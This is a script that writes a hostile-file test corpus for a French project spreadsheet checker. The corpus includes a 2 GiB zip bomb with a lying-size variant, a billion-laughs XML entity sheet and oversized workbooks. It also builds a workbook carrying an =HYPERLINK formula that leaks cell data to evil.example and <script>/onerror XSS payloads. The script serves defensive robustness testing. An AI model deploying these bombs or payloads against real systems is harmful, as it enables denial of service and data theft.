// The hostile-file corpus, written by code (issue 7): files a colleague might send that must
// never crash, hang, exhaust or leak. Each file comes with what the guard must say about it.
//
//   node scripts/hostile-corpus.mjs [DIR]          writes the corpus (default test/.artifacts/hostile)
//   node scripts/hostile-corpus.mjs --doc [DIR]    also runs `dist/cli.js check` on each file under
//                                                  /usr/bin/time and rewrites the table of
//                                                  docs/hostile-files.md from that run
//
// Everything is built here from bytes: a small zip writer (deflate, ZIP64 when needed), a
// hand-made OLE compound file, and a deflate stream of gigabytes assembled from one repeated block.
import { spawnSync } from "node:child_process";
import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import zlib from "node:zlib";
import ExcelJS from "exceljs";

const root = resolve(dirname(fileURLToPath(import.meta.url)), "..");

// ---------------------------------------------------------------------------------------------
// A minimal zip writer
// ---------------------------------------------------------------------------------------------

/**
 * One entry: `data` (stored or deflated here) or `raw` (an already deflated stream with its
 * `size` and `crc`). `declaredSize` overrides the uncompressed size written in the headers.
 * @typedef {{ name: string, data?: Buffer|string, store?: boolean, raw?: Buffer, size?: number, crc?: number, declaredSize?: number }} ZipInput
 */

/** Builds a zip archive; ZIP64 end records are written when there are more than 65 535 entries. */
export function buildZip(/** @type {ZipInput[]} */ inputs) {
  const locals = [];
  const centrals = [];
  let offset = 0;
  for (const input of inputs) {
    const name = Buffer.from(input.name, "utf8");
    let method = 8;
    let body;
    let size;
    let crc;
    if (input.raw) {
      body = input.raw;
      size = input.size;
      crc = input.crc;
    } else {
      const data = Buffer.isBuffer(input.data) ? input.data : Buffer.from(input.data ?? "", "utf8");
      size = data.length;
      crc = zlib.crc32(data);
      method = input.store ? 0 : 8;
      body = input.store ? data : zlib.deflateRawSync(data);
    }
    const declared = input.declaredSize ?? size;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc >>> 0, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(declared, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc >>> 0, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(declared, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += 30 + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const count = inputs.length;
  const tail = [];
  if (count > 0xffff) {
    const z64 = Buffer.alloc(56);
    z64.writeUInt32LE(0x06064b50, 0);
    z64.writeBigUInt64LE(44n, 4);
    z64.writeUInt16LE(45, 12);
    z64.writeUInt16LE(45, 14);
    z64.writeBigUInt64LE(BigInt(count), 24);
    z64.writeBigUInt64LE(BigInt(count), 32);
    z64.writeBigUInt64LE(BigInt(cd.length), 40);
    z64.writeBigUInt64LE(BigInt(offset), 48);
    const locator = Buffer.alloc(20);
    locator.writeUInt32LE(0x07064b50, 0);
    locator.writeBigUInt64LE(BigInt(offset + cd.length), 8);
    locator.writeUInt32LE(1, 16);
    tail.push(z64, locator);
  }
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(Math.min(count, 0xffff), 8);
  eocd.writeUInt16LE(Math.min(count, 0xffff), 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, ...tail, eocd]);
}

/**
 * A raw deflate stream of `prefix + unit × count + suffix`, built in milliseconds whatever its
 * inflated size: once zlib's window is steady, each sync-flushed block of `unit` compresses to
 * the very same bytes, so one block is repeated instead of deflating gigabytes.
 */
export async function repeatedDeflate(prefix, unit, count, suffix) {
  const deflater = zlib.createDeflateRaw({ level: 9 });
  const out = [];
  deflater.on("data", (c) => out.push(c));
  const flushWith = async (data) => {
    if (data.length) deflater.write(data);
    await new Promise((r) => deflater.flush(zlib.constants.Z_SYNC_FLUSH, r));
    return Buffer.concat(out.splice(0));
  };
  const head = await flushWith(prefix);
  const blocks = [];
  for (let i = 0; i < 4; i++) blocks.push(await flushWith(unit));
  if (!blocks[2].equals(blocks[3])) throw new Error("repeatedDeflate: zlib output did not settle");
  deflater.end(suffix);
  await new Promise((r) => deflater.on("end", r));
  const end = Buffer.concat(out.splice(0));
  const middle = [blocks[0], blocks[1], ...Array(count - 2).fill(blocks[2])];
  let crc = zlib.crc32(prefix);
  for (let i = 0; i < count; i++) crc = zlib.crc32(unit, crc);
  crc = zlib.crc32(suffix, crc);
  return {
    raw: Buffer.concat([head, ...middle, end]),
    size: prefix.length + unit.length * count + suffix.length,
    crc,
  };
}

// ---------------------------------------------------------------------------------------------
// Workbook parts
// ---------------------------------------------------------------------------------------------

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** The parts of a one-sheet workbook, sheet XML given (and optional sharedStrings). */
function workbookParts(sheetXml, sharedStrings) {
  const parts = [
    {
      name: "[Content_Types].xml",
      data: `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>${sharedStrings ? '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>' : ""}</Types>`,
    },
    {
      name: "_rels/.rels",
      data: `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    },
    {
      name: "xl/workbook.xml",
      data: `${XML}<workbook xmlns="${NS}" xmlns:r="${REL}"><sheets><sheet name="Projet" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    },
    {
      name: "xl/_rels/workbook.xml.rels",
      data: `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>${sharedStrings ? `<Relationship Id="rId2" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/>` : ""}</Relationships>`,
    },
    { name: "xl/worksheets/sheet1.xml", ...sheetXml },
  ];
  if (sharedStrings) parts.push({ name: "xl/sharedStrings.xml", ...sharedStrings });
  return parts;
}

const smallSheet = (ref = "A1:B1") => ({
  data: `${XML}<worksheet xmlns="${NS}"><dimension ref="${ref}"/><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>1</v></c></row></sheetData></worksheet>`,
});

/** A deterministic PRNG (mulberry32). */
export function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** A minimal OLE compound file (CFB v3) whose directory names the given streams. */
function compoundFile(streamNames) {
  const sector = 512;
  const header = Buffer.alloc(sector);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x3e, 24); // minor version
  header.writeUInt16LE(3, 26); // major version 3
  header.writeUInt16LE(0xfffe, 28); // little-endian
  header.writeUInt16LE(9, 30); // 512-byte sectors
  header.writeUInt16LE(6, 32); // 64-byte mini sectors
  header.writeUInt32LE(1, 44); // one FAT sector
  header.writeUInt32LE(1, 48); // directory starts at sector 1
  header.writeUInt32LE(0x1000, 56);
  header.writeUInt32LE(0xfffffffe, 60);
  header.writeUInt32LE(0xfffffffe, 68);
  header.fill(0xff, 76, 512);
  header.writeUInt32LE(0, 76); // FAT is sector 0
  const fat = Buffer.alloc(sector, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0); // sector 0: FAT
  fat.writeUInt32LE(0xfffffffe, 4); // sector 1: directory, end of chain
  const dir = Buffer.alloc(sector);
  ["Root Entry", ...streamNames].slice(0, 4).forEach((name, i) => {
    const at = i * 128;
    const utf16 = Buffer.from(`${name}\0`, "utf16le");
    utf16.copy(dir, at);
    dir.writeUInt16LE(utf16.length, at + 64);
    dir.writeUInt8(i === 0 ? 5 : 2, at + 66);
    dir.writeUInt8(1, at + 67);
    dir.writeUInt32LE(0xffffffff, at + 68);
    dir.writeUInt32LE(0xffffffff, at + 72);
    dir.writeUInt32LE(i === 0 && streamNames.length ? 1 : 0xffffffff, at + 76);
    dir.writeUInt32LE(0xfffffffe, at + 116);
  });
  return Buffer.concat([header, fat, dir]);
}

// ---------------------------------------------------------------------------------------------
// Good workbooks (also used by the tests and the fuzzer as seeds)
// ---------------------------------------------------------------------------------------------

/** Adds a table tab (header row then rows) to an exceljs workbook. */
function addTab(wb, name, header, rows) {
  const ws = wb.addWorksheet(name);
  ws.addRow(header);
  for (const r of rows) ws.addRow(r);
  return ws;
}

const d = (iso) => new Date(`${iso}T00:00:00Z`);

/**
 * A small, valid fiche projet (template v1 headers), as an exceljs Workbook. `title` lets the
 * security tests put a formula-looking title in; `extraText` goes into a step name.
 */
export function goodWorkbook({ code = "PRJ-001", title = "Médiathèque intercommunale", extraText = "Études" } = {}) {
  const wb = new ExcelJS.Workbook();
  const projet = wb.addWorksheet("Projet");
  for (const row of [
    ["Code projet", code],
    ["Intitulé", title],
    ["Statut", "en cours"],
    ["Chef de projet", "Claire Martin"],
    ["Service pilote", "Culture"],
    ["Date d'état", d("2026-06-30")],
    ["Jours fériés", "France"],
  ]) {
    projet.addRow(row);
  }
  addTab(
    wb,
    "Calendrier",
    ["ID", "Étape", "Début prévu", "Fin prévue", "Fin réelle", "Avancement", "Prédécesseurs", "Jalon"],
    [
      ["E1", extraText, d("2026-01-05"), d("2026-03-31"), d("2026-04-10"), 1, "", "non"],
      ["E2", "Travaux", d("2026-04-01"), d("2026-09-30"), null, 0.4, "E1", "non"],
      ["E3", "Ouverture", d("2026-10-01"), d("2026-10-01"), null, 0, "E2", "oui"],
    ],
  );
  addTab(
    wb,
    "Budget",
    ["Poste", "Section", "Sens", "Exercice", "Étape", "Prévu initial", "Crédits ouverts", "Engagé", "Mandaté"],
    [
      ["Maîtrise d'œuvre", "Investissement", "Dépense", 2026, "E1", 120000, 120000, 90000, 60000],
      ["Travaux", "Investissement", "Dépense", 2026, "E2", 800000, 850000, 400000, 150000],
      ["DSIL", "Investissement", "Recette", 2026, null, 200000, 200000, 0, 0],
    ],
  );
  addTab(
    wb,
    "Équipe",
    ["Service", "Agent ou rôle", "Étape", "Mois", "Charge prévue", "Charge réalisée"],
    [
      ["Culture", "Cheffe de projet", "E2", "2026-05", 10, 8],
      ["Usages numériques", "Chargé de mission", "E2", "2026-05", 3, 2],
    ],
  );
  addTab(
    wb,
    "Évaluation",
    ["Indicateur", "Unité", "Référence", "Cible", "Mesure"],
    [["Inscrits", "personnes", 1000, 3000, null]],
  );
  return wb;
}

/** Writes the good workbook's bytes. */
export async function goodWorkbookBytes(options) {
  return Buffer.from(await goodWorkbook(options).xlsx.writeBuffer());
}

// ---------------------------------------------------------------------------------------------
// The corpus
// ---------------------------------------------------------------------------------------------

/**
 * The hostile files: name, what it is, what the archive-level guard says (`guard`: the code of
 * `inspectXlsxArchive`, `null` = it passes), what the reader says (`read`: the code of its
 * XlsxReadError, `null` = it reads the file), and `exit`, the exit code of
 * `fiche-projet check` on it (2: cannot be read at all).
 */
export const CORPUS = [
  { file: "empty.xlsx", what: "0 octets", guard: "EMPTY", read: "EMPTY", exit: 2 },
  {
    file: "random-bytes.xlsx",
    what: "64 Kio d'octets aléatoires (graine 7)",
    guard: "NOT_ZIP",
    read: "NOT_ZIP",
    exit: 2,
  },
  { file: "truncated.xlsx", what: "un vrai classeur coupé en deux", guard: "TRUNCATED", read: "TRUNCATED", exit: 2 },
  {
    file: "cd-beyond-end.xlsx",
    what: "répertoire central annoncé au-delà de la fin",
    guard: "TRUNCATED",
    read: "TRUNCATED",
    exit: 2,
  },
  {
    file: "zip-of-text.xlsx",
    what: "une archive zip de fichiers texte",
    guard: "NOT_WORKBOOK",
    read: "NOT_WORKBOOK",
    exit: 2,
  },
  {
    file: "docx-renamed.xlsx",
    what: "un document Word minimal renommé",
    guard: "NOT_WORKBOOK",
    read: "NOT_WORKBOOK",
    exit: 2,
  },
  {
    file: "encrypted.xlsx",
    what: "fichier OLE (CFB) EncryptionInfo/EncryptedPackage",
    guard: "ENCRYPTED",
    read: "ENCRYPTED",
    exit: 2,
  },
  {
    file: "legacy-xls.xlsx",
    what: "fichier OLE (CFB) d'un ancien .xls renommé",
    guard: "LEGACY_XLS",
    read: "LEGACY_XLS",
    exit: 2,
  },
  {
    file: "sharedstrings-bomb.xlsx",
    what: "sharedStrings.xml de 2 Gio (≈2 Mo compressé), taille déclarée",
    guard: "ZIP_BOMB",
    read: "ZIP_BOMB",
    exit: 2,
  },
  {
    file: "sharedstrings-bomb-lying.xlsx",
    what: "la même bombe, le répertoire central déclare 4 Kio",
    guard: null,
    read: "ZIP_BOMB",
    exit: 2,
  },
  {
    file: "million-row.xlsx",
    what: "une feuille de 1 000 000 lignes × 3 (3 millions de cellules remplies)",
    guard: null,
    read: "TOO_MANY_CELLS",
    exit: 2,
  },
  {
    file: "many-entries.xlsx",
    what: "100 000 entrées minuscules (ZIP64)",
    guard: "TOO_MANY_ENTRIES",
    read: "TOO_MANY_ENTRIES",
    exit: 2,
  },
  {
    file: "xml-entities.xlsx",
    what: "feuille XML à entités imbriquées (« billion laughs », 10¹² caractères)",
    guard: null,
    read: "MALFORMED",
    exit: 2,
  },
  {
    file: "injection.xlsx",
    what: "fiche valide : titre =HYPERLINK(…), cellules <script>",
    guard: null,
    read: null,
    exit: 0,
  },
];

const BOMB_BYTES = 2 * 1024 ** 3;

async function bombSharedStrings() {
  const unit = Buffer.alloc(1024 * 1024, "A");
  const prefix = Buffer.from(`${XML}<sst xmlns="${NS}" count="1" uniqueCount="1"><si><t>`);
  const suffix = Buffer.from("</t></si></sst>");
  return repeatedDeflate(prefix, unit, BOMB_BYTES / unit.length, suffix);
}

async function millionRowSheet() {
  const rows = 1_000_000;
  const deflater = zlib.createDeflateRaw({ level: 6 });
  const out = [];
  deflater.on("data", (c) => out.push(c));
  let crc = 0;
  let size = 0;
  const put = (s) => {
    const b = Buffer.from(s);
    crc = zlib.crc32(b, crc);
    size += b.length;
    deflater.write(b);
  };
  put(`${XML}<worksheet xmlns="${NS}"><dimension ref="A1:C${rows}"/><sheetData>`);
  for (let start = 1; start <= rows; start += 10_000) {
    let s = "";
    for (let r = start; r < start + 10_000; r++)
      s += `<row r="${r}"><c r="A${r}"><v>${r}</v></c><c r="B${r}"><v>${r * 2}</v></c><c r="C${r}"><v>${r % 7}</v></c></row>`;
    put(s);
  }
  put("</sheetData></worksheet>");
  deflater.end();
  await new Promise((r) => deflater.on("end", r));
  return { raw: Buffer.concat(out), size, crc };
}

/** A sheet whose DTD nests entities ten deep, ten times each: 10¹² characters if expanded. */
function entitySheet() {
  let dtd = '<!DOCTYPE worksheet [<!ENTITY a0 "ha">';
  for (let i = 1; i <= 12; i++) dtd += `<!ENTITY a${i} "${`&a${i - 1};`.repeat(10)}">`;
  return {
    data: `${XML}${dtd}]><worksheet xmlns="${NS}"><dimension ref="A1"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a12;</t></is></c></row></sheetData></worksheet>`,
  };
}

/** Builds every corpus file's bytes, by name. */
export async function buildCorpus() {
  const good = await goodWorkbookBytes();
  const random = Buffer.alloc(64 * 1024);
  const rand = prng(7);
  for (let i = 0; i < random.length; i++) random[i] = Math.floor(rand() * 256);
  random[0] = 0x42; // never a zip or OLE signature by chance
  const beyond = Buffer.from(good);
  beyond.writeUInt32LE(beyond.length * 4, beyond.length - 6);
  const bomb = await bombSharedStrings();
  const sheet = await millionRowSheet();
  const tiny = Array.from({ length: 100_000 }, (_, i) => ({ name: `xl/media/p${i}.bin`, data: "x", store: true }));
  return {
    "empty.xlsx": Buffer.alloc(0),
    "random-bytes.xlsx": random,
    "truncated.xlsx": good.subarray(0, Math.floor(good.length / 2)),
    "cd-beyond-end.xlsx": beyond,
    "zip-of-text.xlsx": buildZip([
      { name: "notes.txt", data: "Réunion du 12 mars : budget à revoir.\n".repeat(20) },
      { name: "lisez-moi.txt", data: "Ceci n'est pas un classeur." },
    ]),
    "docx-renamed.xlsx": buildZip([
      {
        name: "[Content_Types].xml",
        data: `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
      },
      {
        name: "_rels/.rels",
        data: `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
      },
      {
        name: "word/document.xml",
        data: `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Fiche projet (version Word)</w:t></w:r></w:p></w:body></w:document>`,
      },
    ]),
    "encrypted.xlsx": compoundFile(["EncryptionInfo", "EncryptedPackage", "\u0006DataSpaces"]),
    "legacy-xls.xlsx": compoundFile(["Workbook", "\u0005SummaryInformation"]),
    "sharedstrings-bomb.xlsx": buildZip(workbookParts(smallSheet(), bomb)),
    "sharedstrings-bomb-lying.xlsx": buildZip(workbookParts(smallSheet(), { ...bomb, declaredSize: 4096 })),
    "million-row.xlsx": buildZip(workbookParts(sheet)),
    "many-entries.xlsx": buildZip([...workbookParts(smallSheet()), ...tiny]),
    "xml-entities.xlsx": buildZip(workbookParts(entitySheet())),
    "injection.xlsx": await goodWorkbookBytes({
      code: "INJ-001",
      title: '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
      extraText: "<script>alert('xss')</script><img src=x onerror=alert(1)>",
    }),
  };
}

/** Writes the corpus into `dir` and returns the paths by file name. */
export async function writeCorpus(dir) {
  mkdirSync(dir, { recursive: true });
  const files = await buildCorpus();
  const paths = {};
  for (const [name, bytes] of Object.entries(files)) {
    paths[name] = join(dir, name);
    writeFileSync(paths[name], bytes);
  }
  return paths;
}

// ---------------------------------------------------------------------------------------------
// The documentation table, from a real run of the CLI
// ---------------------------------------------------------------------------------------------

/** Runs `node dist/cli.js check FILE` under /usr/bin/time -v; returns message, exit code, peak RSS. */
export function measureCheck(file) {
  const cli = join(root, "dist", "cli.js");
  const report = join(tmpdir(), `fiche-time-${process.pid}.txt`);
  const run = spawnSync("/usr/bin/time", ["-v", "-o", report, process.execPath, cli, "check", file], {
    encoding: "utf8",
    timeout: 120_000,
  });
  const timing = readFileSync(report, "utf8");
  rmSync(report, { force: true });
  const peak = /Maximum resident set size \(kbytes\): (\d+)/.exec(timing);
  const elapsed = /Elapsed \(wall clock\) time.*: (?:(\d+):)?(\d+(?:\.\d+)?)$/m.exec(timing);
  const message = `${run.stderr}\n${run.stdout}`
    .split("\n")
    .filter((l) => l.trim())
    .slice(0, 2)
    .join(" / ");
  return {
    exit: run.status,
    peakMb: peak ? Math.round(Number(peak[1]) / 1024) : null,
    seconds: elapsed ? Number(elapsed[1] ?? 0) * 60 + Number(elapsed[2]) : null,
    message,
  };
}

async function writeDocTable(dir) {
  const paths = await writeCorpus(dir);
  const rows = [
    "| fichier | ce que c'est | code du lecteur | message de `check` | code de sortie | mémoire max (Mo) | durée (s) |",
    "|---|---|---|---|---|---|---|",
  ];
  for (const entry of CORPUS) {
    const m = measureCheck(paths[entry.file]);
    const msg = m.message.replaceAll(dir, "…").replaceAll("|", "\\|");
    rows.push(
      `| \`${entry.file}\` | ${entry.what} | ${entry.read ?? "ok"} | ${msg} | ${m.exit} | ${m.peakMb} | ${m.seconds} |`,
    );
    console.error(`${entry.file}: exit ${m.exit}, ${m.peakMb} MB`);
  }
  const docPath = join(root, "docs", "hostile-files.md");
  const doc = readFileSync(docPath, "utf8");
  const table = `<!-- table:start -->\n_Mesuré le ${new Date().toISOString().slice(0, 10)} par \`node scripts/hostile-corpus.mjs --doc\` (Node ${process.version})._\n\n${rows.join("\n")}\n<!-- table:end -->`;
  writeFileSync(docPath, doc.replace(/<!-- table:start -->[\s\S]*<!-- table:end -->/, table));
}

if (process.argv[1] && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const args = process.argv.slice(2);
  const doc = args.includes("--doc");
  const dir = resolve(args.find((a) => !a.startsWith("--")) ?? join(root, "test", ".artifacts", "hostile"));
  if (doc) await writeDocTable(dir);
  else {
    const paths = await writeCorpus(dir);
    for (const p of Object.values(paths)) console.log(p);
  }
}
